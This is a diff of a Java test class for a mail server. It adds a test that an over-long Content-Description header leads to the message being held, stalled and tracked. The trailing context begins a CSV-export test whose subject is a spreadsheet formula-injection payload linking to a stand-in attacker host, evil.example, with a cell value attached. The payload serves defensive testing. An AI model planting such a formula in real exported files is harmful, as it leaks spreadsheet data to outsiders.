@@ -229,6 +229,27 @@ class HostileMailFlowTest {
     }
 
     @Test
+    void mailTheMailboxCannotStoreShouldBeHeldAsStalledAndTrackedSoWhenAHeaderFieldIsTooLongForIt() throws Exception {
+        String sender = "long-description@remote.example";
+        // The mailbox database keeps a top-level Content-Description in 1,024 characters: this one cannot be stored.
+        byte[] message = bytes(headers(sender, "long-content-description") + "Content-Type: text/plain\r\nContent-Description: "
+            + "d".repeat(3000) + "\r\n\r\nhello bob\r\n");
+
+        assertThat(RawSmtp.send(server.smtpPort(), sender, BOB, message)).startsWith("250");
+
+        assertThat(finalStatus(sender)).isEqualTo("held");
+        JsonPath held = stalled(sender);
+        assertThat(held.getString("id")).as("held as stalled").isNotNull();
+        assertThat(new String(raw(held.getString("id")), StandardCharsets.ISO_8859_1)).contains("d".repeat(3000)).endsWith("hello bob\r\n");
+        String trackingId = trackedFrom(sender).getString("messages[0].trackingId");
+        JsonPath detail = server.webAdmin().get("/portcullis/tracking/" + trackingId).then().statusCode(200).extract().jsonPath();
+        assertThat(detail.getList("events.type")).contains("HELD").doesNotContain("DELIVERED_LOCALLY", "PLACED_IN_PROBLEM_AREA");
+        assertThat(held.getString("unscannableReason")).contains("Content-Description");
+        assertThat(errorRepository()).isEmpty();
+        assertThat(trackedTo(sender)).isZero();
+    }
+
+    @Test
     void trackingCsvShouldNeverHoldAFormulaCell() throws Exception {
         String sender = "formula@remote.example";
         String subject = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
